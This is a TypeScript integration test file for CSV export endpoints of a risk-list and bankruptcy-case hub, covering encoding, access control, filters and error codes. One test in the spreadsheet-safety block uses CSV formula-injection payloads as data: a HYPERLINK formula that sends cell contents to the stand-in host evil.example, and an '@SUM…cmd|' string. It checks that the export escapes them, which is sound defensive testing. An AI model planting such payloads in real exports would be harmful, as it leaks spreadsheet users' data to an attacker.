/**
 * CSV exports (issue 6): `GET /export/risk-entries.csv` and `GET /export/cases.csv` against a real hub, with the
 * filters of riskEntries and cases, only what the caller may see, UTF-8 with a byte-order mark, in batches, and
 * coded refusals before the first byte.
 */
import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { usccCheckCharacter } from '../../src/modules/enterprises/uscc';
import { startTestHub, type TestHub } from '../support/hub';

const uscc = (first17: string) => first17 + usccCheckCharacter(first17);
const code = (n: number) => uscc(`91140802MA0W${String(n).padStart(5, '0')}`);

let t: TestHub;
const keys: Record<string, string> = {};

beforeAll(async () => {
  t = await startTestHub();
  keys.TAX = await t.keyFor('YC-TAX', ['PUBLISH', 'READ', 'ANALYZE'], 'TAX');
  keys.PBOC = await t.keyFor('YC-PBOC', ['READ', 'ANALYZE'], 'PBOC');
  keys.READER = await t.keyFor('YC-READER', ['READ'], 'OTHER');
  keys.COURT = await t.keyFor('YC-COURT', ['PUBLISH', 'READ', 'ANALYZE'], 'COURT', '晋08');
  const publish = async (entries: Record<string, unknown>[], extra: Record<string, unknown> = {}) => {
    const result = await t.gql(
      `mutation($input: PublishRiskListInput!) { publishRiskList(input: $input) { committed } }`,
      {
        input: { listType: 'TAX_ARREARS', mode: 'DELTA', idempotencyKey: randomUUID(), entries, ...extra },
      },
      keys.TAX,
    );
    expect(result.data.publishRiskList.committed).toBe(true);
  };
  const row = (n: number, over: Record<string, unknown> = {}) => ({
    uscc: code(n),
    enterpriseName: `运城市第${n}号商贸有限公司`,
    riskLevel: n % 2 ? 'RED' : 'BLUE',
    categories: ['FINANCIAL'],
    amount: `${n}.50`,
    details: { taxTypes: ['增值税'] },
    ...over,
  });
  await publish([row(1, { remarks: '欠税, 含"滞纳金"\n第二行' }), ...Array.from({ length: 2499 }, (_, i) => row(i + 2))]);
  await publish([row(9001)], { classification: 'RESTRICTED', sharedWithUnits: ['YC-COURT'] });
  const registered = await t.gql(
    `mutation($input: RegisterCaseInput!) { registerCase(input: $input) { id } }`,
    {
      input: {
        caseNumber: '（2026）晋08破申1号',
        debtorUscc: code(1),
        debtorName: '运城市第1号商贸有限公司',
        procedure: 'LIQUIDATION',
        appliedOn: '2026-02-01',
        employeesAffected: 12,
        wagesOwed: '3400.00',
        major: true,
      },
    },
    keys.COURT,
  );
  expect(registered.errors).toBeUndefined();
  await t.gql(
    `mutation($input: RegisterCaseInput!) { registerCase(input: $input) { id } }`,
    {
      input: {
        caseNumber: '（2026）晋08破申2号',
        debtorUscc: code(2),
        debtorName: '敏感公司',
        procedure: 'LIQUIDATION',
        appliedOn: '2026-02-01',
        sensitive: true,
      },
    },
    keys.COURT,
  );
});
afterAll(() => t?.stop());

async function download(path: string, key: string | null) {
  const response = await fetch(`${t.url.replace(/\/graphql$/, '')}${path}`, { headers: key ? { authorization: `Bearer ${key}` } : {} });
  const bytes = Buffer.from(await response.arrayBuffer());
  return { response, bytes, text: bytes.toString('utf8') };
}

const rowsOf = (text: string): string[][] => parse(text.replace(/^\uFEFF/, ''), { relax_column_count: false });

describe('risk entries', () => {
  it('UTF-8 with a byte-order mark, a header, every visible entry once, Chinese text and quoting intact', async () => {
    const { response, bytes, text } = await download('/export/risk-entries.csv', keys.TAX);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="risk-entries.csv"');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, ...rows] = rowsOf(text);
    expect(header.slice(0, 4)).toEqual(['publisher 发布单位', 'listType 名单类型', 'uscc 统一社会信用代码', 'enterpriseName 企业名称']);
    expect(rows).toHaveLength(2501);
    expect(new Set(rows.map((r) => r[2])).size).toBe(2501);
    const first = rows.find((r) => r[2] === code(1))!;
    expect(first).toEqual(
      expect.arrayContaining([
        'YC-TAX',
        'TAX_ARREARS',
        '运城市第1号商贸有限公司',
        '140802',
        'RED',
        'FINANCIAL',
        '1.50',
        '欠税, 含"滞纳金"\n第二行',
        '{"taxTypes":["增值税"]}',
        'ACTIVE',
      ]),
    );
  });

  it('only what the caller may see: the central bank does not get the entry restricted to the court', async () => {
    const { text } = await download('/export/risk-entries.csv', keys.PBOC);
    const rows = rowsOf(text).slice(1);
    expect(rows).toHaveLength(2500);
    expect(rows.some((r) => r[2] === code(9001))).toBe(false);
  });

  it('with the filters of riskEntries as query parameters', async () => {
    const { text } = await download(
      `/export/risk-entries.csv?minRiskLevel=RED&listTypes=TAX_ARREARS,ZOMBIE&regionPrefix=1408&uscc=${code(3)}`,
      keys.TAX,
    );
    expect(
      rowsOf(text)
        .slice(1)
        .map((r) => r[2]),
    ).toEqual([code(3)]);
    const blue = await download('/export/risk-entries.csv?minRiskLevel=BLUE&categories=LEGAL', keys.TAX);
    expect(rowsOf(blue.text)).toHaveLength(1);
  });

  it('refusals before the first byte, coded: no key 401, no ANALYZE 403, a bad filter 400 naming it', async () => {
    const none = await download('/export/risk-entries.csv', null);
    expect(none.response.status).toBe(401);
    expect(JSON.parse(none.text).errors[0].extensions.code).toBe('UNAUTHENTICATED');
    const reader = await download('/export/risk-entries.csv', keys.READER);
    expect(reader.response.status).toBe(403);
    expect(JSON.parse(reader.text).errors[0].extensions.code).toBe('FORBIDDEN');
    for (const [query, field] of [
      ['listTypes=NOPE', 'listTypes'],
      ['minRiskLevel=PURPLE', 'minRiskLevel'],
      ['regionPrefix=1', 'regionPrefix'],
      ['publishedFrom=yesterday', 'publishedFrom'],
    ]) {
      const bad = await download(`/export/risk-entries.csv?${query}`, keys.TAX);
      expect(bad.response.status).toBe(400);
      expect(JSON.parse(bad.text).errors[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', field });
    }
  });
});

describe('spreadsheet safety', () => {
  it('a cell that a spreadsheet would read as a formula is written with a leading apostrophe', async () => {
    const result = await t.gql(
      `mutation($input: PublishRiskListInput!) { publishRiskList(input: $input) { committed } }`,
      {
        input: {
          listType: 'TAX_ARREARS',
          mode: 'DELTA',
          idempotencyKey: randomUUID(),
          entries: [
            {
              uscc: code(7001),
              enterpriseName: '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
              riskLevel: 'RED',
              categories: ['FINANCIAL'],
              amount: '1.00',
              remarks: '@SUM(1+1)*cmd|',
              details: { taxTypes: ['增值税'] },
            },
          ],
        },
      },
      keys.TAX,
    );
    expect(result.data.publishRiskList.committed).toBe(true);
    const rows = rowsOf((await download(`/export/risk-entries.csv?uscc=${code(7001)}`, keys.TAX)).text);
    expect(rows[1][3]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"点此")`);
    expect(rows[1][9]).toBe(`'@SUM(1+1)*cmd|`);
  });

  it('time filters need their offset; a malformed USCC is refused, not an empty file', async () => {
    const noOffset = await download('/export/risk-entries.csv?publishedFrom=2026-11-01T00:00:00', keys.TAX);
    expect(noOffset.response.status).toBe(400);
    const withOffset = await download(
      `/export/risk-entries.csv?publishedFrom=${encodeURIComponent('2026-01-01T00:00:00+08:00')}&uscc=${code(3)}`,
      keys.TAX,
    );
    expect(rowsOf(withOffset.text)).toHaveLength(2);
    const badUscc = await download('/export/cases.csv?debtorUscc=not-a-uscc', keys.COURT);
    expect(badUscc.response.status).toBe(400);
    expect(JSON.parse(badUscc.text).errors[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'debtorUscc' });
    const unauthenticated = await download('/export/cases.csv', null);
    expect(unauthenticated.response.headers.get('www-authenticate')).toBe('Bearer');
  });
});

describe('cases', () => {
  it('every visible case with its monitoring points; a sensitive case only to those who may read it', async () => {
    const court = rowsOf((await download('/export/cases.csv', keys.COURT)).text);
    expect(court[0][0]).toBe('caseNumbers 案号');
    expect(
      court
        .slice(1)
        .map((r) => r[0])
        .sort(),
    ).toEqual(['（2026）晋08破申1号', '（2026）晋08破申2号']);
    const first = court.find((r) => r[0] === '（2026）晋08破申1号')!;
    expect(first.slice(0, 7)).toEqual(['（2026）晋08破申1号', 'YC-COURT', code(1), '运城市第1号商贸有限公司', '140802', 'LIQUIDATION', 'APPLIED']);
    expect(first).toEqual(expect.arrayContaining(['yes', '12', '3400.00']));
    const pboc = rowsOf((await download('/export/cases.csv', keys.PBOC)).text);
    expect(pboc.slice(1).map((r) => r[0])).toEqual(['（2026）晋08破申1号']);
    const filtered = rowsOf((await download('/export/cases.csv?major=false', keys.COURT)).text);
    expect(filtered.slice(1).map((r) => r[0])).toEqual(['（2026）晋08破申2号']);
  });
});
